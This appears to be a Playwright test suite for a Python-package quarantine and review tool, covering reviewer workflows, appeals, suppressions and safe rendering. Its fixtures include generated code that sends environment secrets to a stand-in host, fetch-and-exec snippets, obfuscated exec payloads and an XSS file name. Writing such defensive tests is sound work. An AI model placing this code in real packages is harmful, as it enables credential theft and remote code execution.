import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { Browser } from 'playwright-core';
import { packWheel } from '../../scripts/pack-example.ts';
import { submit } from '../../src/jobs/submit.ts';
import { currentDisposition } from '../../src/store/dispositions.ts';
import { indexStatusesOf } from '../../src/store/index-statuses.ts';
import { listQueue } from '../../src/store/review-items.ts';
import { claims } from '../../src/store/schema-review.ts';
import { NO_BROWSER, openBrowser, seriousViolations, visit } from '../support/browser.ts';
import { openTestServer, type TestServer } from '../support/http.ts';
import { stageBytes } from '../support/service.ts';

/** Right-to-left override, markup, a bell and an escape: all of it may be in a file name and in code. */
const HOSTILE = 'x\u202Egpj.<img src=x onerror="document.title=1">\u0007\u001B[31m';
const COPIES = 50;
/** What a person could see of a page, and what an attacker would have put into it; runs in the page. */
const LOOK = `(() => {
  const inner = [...document.querySelectorAll('*')].flatMap((one) => one.shadowRoot ?? []);
  const text = [document.body.innerText, ...inner.map((root) => root.textContent)].join('\\n');
  const images = [document, ...inner].flatMap((root) => [...root.querySelectorAll('img[onerror]')]).length;
  return { text, images };
})()`;

function wheel(project: string, source: string, readme = '', version = '1.0'): Uint8Array {
  const info = `${project}-${version}.dist-info`;
  const files = {
    [`${project}/__init__.py`]: source,
    [`${info}/METADATA`]: `Metadata-Version: 2.1\nName: ${project}\nVersion: ${version}\n\n${readme}`,
    [`${info}/WHEEL`]: 'Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
  };
  return packWheel(Object.entries(files).map(([file, text]) => ({ path: file, bytes: Buffer.from(text) })));
}

function sender(index: number): string {
  const name = `v${index}`;
  return `import os, socket, urllib.request
def ${name}_collect():
    ${name} = {}
    for key, value in os.environ.items():
        if 'TOKEN' in key or 'SECRET' in key:
            ${name}[key] = value
    ${name}['host'] = socket.gethostname()
    ${name}['user'] = os.getlogin()
    request = urllib.request.Request('https://h${index}.collector.invalid/c', data=str(${name}).encode())
    urllib.request.urlopen(request, timeout=5).read()
${name}_collect()
`;
}

describe('the review page', { skip: NO_BROWSER }, () => {
  let server: TestServer;
  let browser: Browser;
  before(async () => {
    const policy = path.join(tmpdir(), `lazaret-policy-${process.pid}.toml`);
    await writeFile(
      policy,
      'dry-run = false\n[quarantine]\nconfirm = "project"\ntwo-person = "established"\n',
    );
    server = await openTestServer({ 'scan.processes': 1, policy });
    browser = await openBrowser();
  });
  after(async () => {
    await browser?.close();
    await server?.close();
  });

  async function upload(filename: string, bytes: Uint8Array): Promise<string> {
    const staged = await stageBytes(server.service.vault, bytes);
    const claims = { uploader: null, url: null, project: null, version: null };
    await submit(server.service, staged, { filename, source: 'api', ...claims });
    const verdict = await server.service.verdicts.wait(staged.sha256, 120_000);
    assert.ok(verdict, filename);
    return staged.sha256;
  }

  const reviewer = async () => (await server.browser('reviewer')).name;
  const waiting = async () => listQueue(server.service.database.db, { state: 'open', limit: 100 });

  it('decides a campaign of 50 in at most 5 key presses, and takes it back', async () => {
    const hashes: string[] = [];
    for (let index = 0; index < COPIES; index += 1) {
      hashes.push(
        await upload(`helper${index}-1.0-py3-none-any.whl`, wheel(`helper${index}`, sender(index))),
      );
    }
    const { page, problems } = await visit(browser, server, await reviewer());
    await page.getByText(`${COPIES} distributions`, { exact: false }).first().waitFor();
    await page.keyboard.press('c');
    await page.keyboard.press('Enter');
    await page.getByText(`Confirmed ${COPIES} distributions`).waitFor();
    for (const sha256 of hashes) {
      const row = await currentDisposition(server.service.database.db, sha256);
      assert.deepEqual([row?.disposition, row?.actor.startsWith('user:')], ['refused', true]);
    }
    await page.getByRole('button', { name: 'Undo' }).click();
    await page.getByText(`Took back ${COPIES} decisions`).waitFor();
    assert.equal((await waiting())[0]?.count, COPIES);
    assert.deepEqual(problems, []);
    await page.context().close();
  });

  it('shows hostile names and code as text, in every place', async () => {
    const inner = Buffer.from("exec(__import__('base64').b64decode('cHJpbnQoMSk='))").toString('base64');
    const source = `import base64\n# ${HOSTILE}\nname = ${JSON.stringify(HOSTILE)}\nexec(base64.b64decode('${inner}'))\n`;
    const sha256 = await upload(`${HOSTILE}-1.0-py3-none-any.whl`, wheel('hostile', source, HOSTILE));
    const { page, problems } = await visit(browser, server, await reviewer());
    for (const tab of [
      'arguments',
      'findings',
      'files',
      'layers',
      'indicators',
      'score',
      'unseen',
      'history',
    ]) {
      await page.goto(`${server.url}distributions/${sha256}?tab=${tab}`);
      await page.getByRole('tabpanel').waitFor();
      await page.waitForLoadState('networkidle', { timeout: 3000 }).catch(() => {});
      const seen: { text: string; images: number } = await page.evaluate(LOOK);
      assert.equal(seen.images, 0, tab);
      assert.doesNotMatch(seen.text, /[\u202A-\u202E\u2066-\u2069\u0007\u001B]/, tab);
      assert.match(seen.text, /⟨U\+202E⟩gpj\.<img src=x onerror=/, tab);
    }
    assert.equal(await page.title(), 'Lazaret');
    assert.deepEqual(problems, []);
    await page.context().close();
  });

  it('has no serious fault of accessibility, in light and in dark', async () => {
    const { page } = await visit(browser, server, await reviewer());
    await page.locator('.queue-row').first().waitFor();
    const [row] = await waiting();
    for (const scheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme: scheme });
      await page.goto(server.url);
      await page.locator('.reason').first().waitFor();
      assert.deepEqual(await seriousViolations(page), [], `queue, ${scheme}`);
      for (const tab of ['arguments', 'findings', 'files', 'layers', 'score', 'history']) {
        await page.goto(`${server.url}distributions/${row!.sha256}?tab=${tab}`);
        await page.getByRole('tabpanel').waitFor();
        await page.waitForTimeout(300);
        assert.deepEqual(await seriousViolations(page), [], `${tab}, ${scheme}`);
      }
    }
    await page.context().close();
  });

  it('tells the whole story: held, confirmed by keyboard, appealed, answered by another, released', async () => {
    const source = `exec(__import__('zlib').decompress(__import__('base64').b64decode('eJwrKMrMK9Ew1AQAD6ACxA==')))\n`;
    const bytes = wheel('story', source);
    const staged = await stageBytes(server.service.vault, bytes);
    const filename = 'story-1.0-py3-none-any.whl';
    const claims = { uploader: 'author', url: null, project: 'story', version: '1.0' };
    const { id } = await submit(server.service, staged, { filename, source: 'gate', ...claims });
    assert.ok(await server.service.verdicts.wait(staged.sha256, 120_000));
    const holds = async () =>
      (await currentDisposition(server.service.database.db, staged.sha256))?.disposition;
    assert.equal(await holds(), 'held');

    const first = await visit(browser, server, await reviewer());
    await first.page.keyboard.press('/');
    await first.page.keyboard.type('story');
    await first.page.locator('.queue-row', { hasText: 'story' }).waitFor();
    await first.page.locator('.preview h2', { hasText: filename }).waitFor();
    await first.page.keyboard.press('Escape');
    await first.page.keyboard.press('c');
    await first.page.keyboard.press('Enter');
    await first.page.getByText('Confirmed 1 distribution').waitFor();
    assert.equal(await holds(), 'refused');

    const author = await (await browser.newContext()).newPage();
    await author.goto(`${server.url}case/${id}`);
    await author.getByRole('heading', { name: 'Refused' }).waitFor();
    assert.deepEqual(await seriousViolations(author), []);
    await author.getByLabel('Anything else').fill('It unpacks a table that we ship compressed.');
    await author.getByRole('button', { name: 'Appeal' }).click();
    await author.getByText('An answer is due by').waitFor();

    await first.page.goto(`${server.url}appeals`);
    await first.page.getByRole('button', { name: 'Explained', exact: true }).click();
    await first.page.getByRole('button', { name: 'Grant and release' }).click();
    await first.page.getByText('another reviewer than the one who decided has to answer').waitFor();
    assert.equal(await holds(), 'refused');

    const second = await visit(browser, server, await reviewer());
    await second.page.getByRole('link', { name: 'Appeals' }).click();
    await second.page.getByText('It unpacks a table that we ship compressed.').waitFor();
    assert.deepEqual(await seriousViolations(second.page), []);
    await second.page.getByRole('button', { name: 'Explained', exact: true }).click();
    await second.page.getByRole('button', { name: 'Grant and release' }).click();
    await second.page.getByText('Nobody waits for an answer.').waitFor();
    assert.equal(await holds(), 'released');
    await author.reload();
    await author.getByRole('heading', { name: 'Released' }).waitFor();
    await second.page.getByRole('link', { name: 'Figures' }).click();
    await second.page.getByText('Precision of rules').waitFor();
    assert.deepEqual(await seriousViolations(second.page), []);
    assert.deepEqual(second.problems, []);
    for (const { page } of [first, second]) await page.context().close();
    await author.context().close();
  });

  it('keeps two reviewers apart, and tells the second who has it in hand', async () => {
    // Browsers of the tests before were closed with what they had in hand.
    await server.service.database.db.delete(claims);
    const firstName = await reviewer();
    const first = await visit(browser, server, firstName);
    await first.page.locator('.queue-row').first().waitFor();
    const second = await visit(browser, server, await reviewer());
    await second.page.locator('.queue-row').first().waitFor();
    // Looked at for a moment, it is in the first one's hands; the second page hears of it by itself.
    const row = second.page.locator('.queue-row[aria-selected="true"]');
    await row.getByText(`in the hands of ${firstName}`).waitFor();
    await second.page.locator('.preview').getByText(`${firstName} has this in hand`).waitFor();
    const before_ = (await waiting()).length;
    await second.page.keyboard.press('d');
    await second.page.keyboard.press('Enter');
    await second.page.getByText(`${firstName} has this campaign in hand. Look at it together`).waitFor();
    assert.equal((await waiting()).length, before_);
    // The first one leaves, and the second hears of that as well.
    await first.page.goto(`${server.url}appeals`);
    await second.page
      .locator('.preview')
      .getByText(`${firstName} has this in hand`)
      .waitFor({ state: 'detached' });
    assert.deepEqual(first.problems, []);
    for (const { page } of [first, second]) await page.context().close();
  });

  it('says that the quarantine of an established project waits for a second reviewer', async () => {
    const harmless = await upload('known-1.0-py3-none-any.whl', wheel('known', 'VALUE = 1\n'));
    const { db } = server.service.database;
    assert.equal((await currentDisposition(db, harmless))?.disposition, 'released');
    const source = 'import urllib.request\nexec(urllib.request.urlopen("https://known.invalid/x").read())\n';
    const grave = await upload('known-1.1-py3-none-any.whl', wheel('known', source, '', '1.1'));
    const first = await visit(browser, server, await reviewer());
    const second = await visit(browser, server, await reviewer());
    for (const { page } of [first, second]) {
      await page.goto(`${server.url}distributions/${grave}`);
      await page.getByRole('tabpanel').waitFor();
    }
    await first.page.keyboard.press('c');
    await first.page.keyboard.press('Enter');
    await first.page.getByText('waits for a second reviewer').waitFor();
    assert.equal((await indexStatusesOf(db, 'known')).size, 0);
    assert.deepEqual(await seriousViolations(first.page), []);
    await first.page.goto(server.url);
    await first.page.getByRole('button', { name: 'Escalated' }).click();
    await first.page.locator('.queue-row', { hasText: 'waits for a second reviewer' }).waitFor();
    await second.page.keyboard.press('c');
    await second.page.keyboard.press('Enter');
    await second.page.getByText('Decided', { exact: true }).waitFor();
    assert.equal((await indexStatusesOf(db, 'known')).get(null)?.status, 'quarantined');
    for (const { page } of [first, second]) await page.context().close();
  });

  it('keeps filters by name in this browser', async () => {
    const { page, problems } = await visit(browser, server, await reviewer());
    const search = page.getByRole('searchbox');
    await search.fill('no-such-project');
    await page.getByText('Nothing waits').waitFor();
    await page.getByRole('button', { name: 'Save this filter…' }).click();
    await page.getByLabel('Name of the filter').fill('Mine');
    await page.getByRole('button', { name: 'Save', exact: true }).click();
    await search.fill('');
    await page.locator('.queue-row').first().waitFor();
    await page.reload();
    await page.locator('.queue-row').first().waitFor();
    await page.getByRole('button', { name: 'Mine', exact: true }).click();
    await page.getByText('Nothing waits').waitFor();
    assert.equal(await search.inputValue(), 'no-such-project');
    assert.deepEqual(await seriousViolations(page), []);
    await page.getByRole('button', { name: 'Forget the filter Mine' }).click();
    await page.reload();
    await page.locator('.queue-row').first().waitFor();
    assert.equal(await page.getByRole('button', { name: 'Mine', exact: true }).count(), 0);
    assert.deepEqual(problems, []);
    await page.context().close();
  });

  it('suppresses a finding, lists what is suppressed, and says so beside the next release', async () => {
    const source = `import urllib.request\n\n\ndef load():\n    exec(urllib.request.urlopen('https://updates.invalid/x').read())\n\n\nload()\n`;
    const first = await upload('quiet-1.0-py3-none-any.whl', wheel('quiet', source));
    const { page, problems } = await visit(browser, server, await reviewer());
    await page.goto(`${server.url}distributions/${first}?tab=findings`);
    const card = page.locator('article', { hasText: 'execution/fetch-then-exec' });
    await card.getByRole('button', { name: 'Suppress in this project…' }).click();
    await page.getByLabel('Reason').fill('Our own <b>server</b>.');
    assert.equal(await page.getByLabel('Days until it ends').inputValue(), '90');
    await page.getByRole('button', { name: 'Suppress', exact: true }).click();
    await page.getByText('Suppressed from the next scan on').waitFor();
    const next = await upload('quiet-1.0-py3-none-any.whl', wheel('quiet', source, 'Another text.'));
    await page.goto(`${server.url}distributions/${next}?tab=findings`);
    await page.getByRole('heading', { name: '1 suppressed: seen, and not counted' }).waitFor();
    await page.getByText('Suppressed by user:', { exact: false }).waitFor();
    await page.getByText('Our own <b>server</b>.').waitFor();
    assert.deepEqual(await seriousViolations(page), []);
    await page.getByRole('link', { name: 'Suppressions' }).click();
    await page.getByRole('cell', { name: 'quiet' }).waitFor();
    assert.deepEqual(await seriousViolations(page), []);
    await page.getByRole('button', { name: 'Revoke' }).click();
    await page.getByText('Everything counts.').waitFor();
    assert.deepEqual(problems, []);
    await page.context().close();
  });

  it('keeps up with what happens elsewhere', async () => {
    const { page } = await visit(browser, server, await reviewer());
    await page.locator('.queue-row').first().waitFor();
    await upload(
      'late-1.0-py3-none-any.whl',
      wheel(
        'late',
        `exec(__import__('zlib').decompress(bytes.fromhex('${'00'}')))\nexec(bytes.fromhex('7072696e74283129'))\n`,
      ),
    );
    await page.getByText('late', { exact: true }).first().waitFor();
    await page.context().close();
  });
});
